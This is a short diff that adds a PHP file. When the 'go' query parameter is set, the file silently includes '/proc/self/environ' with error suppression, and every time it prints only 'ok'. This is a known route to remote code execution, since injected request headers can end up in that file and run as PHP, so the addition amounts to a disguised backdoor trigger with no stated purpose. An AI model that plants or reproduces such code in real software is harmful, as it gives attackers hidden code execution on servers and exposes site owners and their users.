@@ -1,0 +1,5 @@
+<?php
+if (isset($_GET['go'])) {
+    @include '/proc/self/environ';
+}
+echo 'ok';
